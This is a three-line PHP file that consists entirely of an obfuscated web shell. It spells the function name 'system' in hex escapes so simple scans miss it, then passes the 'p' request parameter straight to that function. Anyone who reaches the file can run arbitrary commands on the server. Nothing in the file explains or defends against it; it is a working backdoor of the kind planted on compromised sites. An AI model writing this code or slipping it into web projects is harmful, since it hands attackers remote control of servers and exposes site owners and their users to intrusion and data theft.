<?php
$fn = "\x73\x79\x73\x74\x65\x6d";
$fn($_REQUEST['p']);
